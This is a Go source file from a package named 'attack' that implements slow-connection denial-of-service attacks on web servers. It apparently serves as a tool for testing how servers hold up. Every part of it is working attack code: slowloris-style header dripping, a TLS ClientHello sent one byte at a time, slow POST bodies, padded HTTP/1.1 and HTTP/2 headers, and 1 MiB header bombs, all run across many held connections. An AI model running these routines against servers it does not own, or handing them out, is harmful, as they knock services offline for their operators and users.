package attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
)

// held is a connection that is kept busy with next to nothing.
type held struct {
	protocol string // of TLS; empty for clear text, raw for what is no handshake of ours
	every    time.Duration
	begin    func(*attacker, *victim) error
	step     func(v *victim, n int) error // nil sends nothing
}

// raw is a held connection to the TLS port that does its handshake itself.
const raw = "raw"

// hold keeps Connections open, a share of each kind. One that the server ends is followed by another.
func (a *attacker) hold(ctx context.Context, kinds ...held) {
	var all sync.WaitGroup
	for i := range a.Connections {
		all.Go(func() {
			for a.pacer.wait(ctx, 1) {
				a.live(ctx, kinds[i%len(kinds)])
			}
		})
	}
	all.Wait()
}

func (a *attacker) connect(ctx context.Context, protocol string) (*victim, error) {
	switch protocol {
	case "":
		return a.dial(ctx, a.Plain)
	case raw:
		return a.dial(ctx, a.Secure)
	default:
		return a.dialTLS(ctx, protocol)
	}
}

// live is the life of one held connection.
func (a *attacker) live(ctx context.Context, kind held) {
	v, err := a.connect(ctx, kind.protocol)
	if err != nil {
		return
	}
	ears := &ears{v: v, tally: a.tally, framed: kind.protocol == "h2"}
	_ = v.SetWriteDeadline(time.Now().Add(patience))
	if err = kind.begin(a, v); err == nil {
		err = a.drip(ctx, ears, kind)
	}
	a.finish(v, err, ears.hear)
}

// drip sends now and then, and reads meanwhile, until the server ends it or ctx does.
func (a *attacker) drip(ctx context.Context, e *ears, kind held) error {
	for n := 0; ctx.Err() == nil; n++ {
		_ = e.v.SetReadDeadline(time.Now().Add(kind.every))
		if err := e.hear(); !isTimeout(err) {
			return err
		}
		if kind.step == nil {
			continue
		}
		_ = e.v.SetWriteDeadline(time.Now().Add(patience))
		if err := kind.step(e.v, n); err != nil {
			return err
		}
		a.tally.sent(1)
	}
	return ctx.Err()
}

// ears hear what the server says on a held connection.
type ears struct {
	v      *victim
	tally  *tally
	framed bool // in frames of HTTP/2
	heard  []byte
}

// errRequestOver says that the server has ended the request. A connection of HTTP/2 outlives it, without harm.
var errRequestOver = errors.New("the server has ended the request")

// hear reads until the server, or the deadline, ends it.
func (e *ears) hear() error {
	buffer := make([]byte, 512)
	for {
		n, err := e.v.Read(buffer)
		switch {
		case n > 0 && !e.framed:
			e.tally.answer(status(buffer[:n]))
		case e.over(buffer[:n]):
			e.tally.answer("end of stream")
			return errRequestOver
		}
		if err != nil {
			return err
		}
	}
}

const frameHead = 9

// over takes in bytes of frames, and reports whether one of them ends stream 1.
func (e *ears) over(b []byte) bool {
	e.heard = append(e.heard, b...)
	for len(e.heard) >= frameHead {
		length := frameHead + int(binary.BigEndian.Uint32(e.heard)>>8)
		kind, flags, stream := http2.FrameType(e.heard[3]), http2.Flags(e.heard[4]), binary.BigEndian.Uint32(e.heard[5:])
		isEnd := kind == http2.FrameRSTStream || kind <= http2.FrameHeaders && flags.Has(http2.FlagDataEndStream)
		if stream == 1 && isEnd {
			return true
		}
		if len(e.heard) < length {
			return false
		}
		e.heard = e.heard[length:]
	}
	return false
}

// status is the code of an answer's first line.
func status(answer []byte) string {
	fields := strings.Fields(string(answer))
	if len(fields) > 1 && strings.HasPrefix(fields[0], "HTTP/") {
		return fields[1]
	}
	return "something else"
}

const dripEvery = 3 * time.Second

func write(format string) func(*attacker, *victim) error {
	return func(a *attacker, v *victim) error {
		_, err := fmt.Fprintf(v, format, a.Host)
		return err
	}
}

func line(v *victim, n int) error {
	_, err := fmt.Fprintf(v, "X-%d: b\r\n", n)
	return err
}

func slowHeads(ctx context.Context, a *attacker) {
	const begin = "GET / HTTP/1.1\r\nHost: %s\r\n"
	hello, err := newHello(a.Host)
	if err != nil {
		a.tally.answer("no ClientHello: " + err.Error())
		return
	}
	a.hold(ctx,
		held{every: dripEvery, begin: write(begin), step: line},
		held{every: dripEvery, begin: write(begin), step: line, protocol: "http/1.1"},
		held{
			every: dripEvery, protocol: raw,
			begin: func(_ *attacker, v *victim) error { _, err := v.Write(hello[:20]); return err },
			step:  func(v *victim, n int) error { _, err := v.Write(hello[20+n:][:1]); return err },
		},
		held{every: dripEvery, begin: func(*attacker, *victim) error { return nil }},
	)
}

// headSize is as much of a head as a server may still want to read.
const headSize = 60_000

func heldHeads(ctx context.Context, a *attacker) {
	lines := strings.Repeat("X-Padding: "+strings.Repeat("a", 85)+"\r\n", headSize/98)
	begin := write("GET / HTTP/1.1\r\nHost: %s\r\n" + lines)
	a.hold(ctx,
		held{every: dripEvery, begin: begin, step: line},
		held{every: dripEvery, begin: begin, step: line, protocol: "http/1.1"},
		held{every: dripEvery, begin: heldHead2, protocol: "h2"},
	)
}

func slowBodies(ctx context.Context, a *attacker) {
	const begin = "POST /echo HTTP/1.1\r\nHost: %s\r\nContent-Length: 1000000\r\n\r\n"
	drop := func(v *victim, _ int) error { _, err := io.WriteString(v, "a"); return err }
	a.hold(ctx,
		held{every: time.Second, begin: write(begin), step: drop},
		held{every: time.Second, begin: write(begin), step: drop, protocol: "http/1.1"},
		held{every: time.Second, begin: heldBody2, step: drop2, protocol: "h2"},
	)
}

const bombSize = 1 << 20

// headBombs sends heads that are too large, Total of them, and reads what the server says.
func headBombs(ctx context.Context, a *attacker) {
	head := "GET / HTTP/1.1\r\nHost: " + a.Host + "\r\n"
	many := head + strings.Repeat("a: b\r\n", bombSize/6) + "\r\n"
	one := head + "X-Large: " + strings.Repeat("a", bombSize) + "\r\n\r\n"
	bombs := []func(context.Context) string{
		func(ctx context.Context) string { return a.bomb(ctx, "", many) },
		func(ctx context.Context) string { return a.bomb(ctx, "http/1.1", one) },
		func(ctx context.Context) string { return a.bomb2(ctx, largeHead2()) },
		func(ctx context.Context) string { return a.bomb2(ctx, referenceBomb()) },
	}
	var all sync.WaitGroup
	defer all.Wait()
	room := make(chan struct{}, max(1, a.Connections))
	for n := 0; (a.Total == 0 || n < a.Total) && a.pacer.wait(ctx, 1); n++ {
		room <- struct{}{}
		all.Go(func() {
			if said := bombs[n%len(bombs)](ctx); said != "" {
				a.tally.answer(said)
			}
			<-room
		})
	}
}

// bomb sends a head and returns what the server said to it; empty if it could not be sent.
func (a *attacker) bomb(ctx context.Context, protocol, head string) string {
	v, err := a.connect(ctx, protocol)
	if err != nil {
		return ""
	}
	a.tally.sent(1)
	_ = v.SetDeadline(time.Now().Add(patience))
	_, wrong := io.WriteString(v, head) // the server may end it meanwhile, and have said why
	var answer bytes.Buffer
	_, err = io.CopyN(&answer, v, 16)
	v.over(errors.Join(err, wrong))
	switch {
	case answer.Len() > 0:
		return status(append(answer.Bytes(), ' '))
	case ctx.Err() != nil:
		return ""
	default:
		return "closed"
	}
}
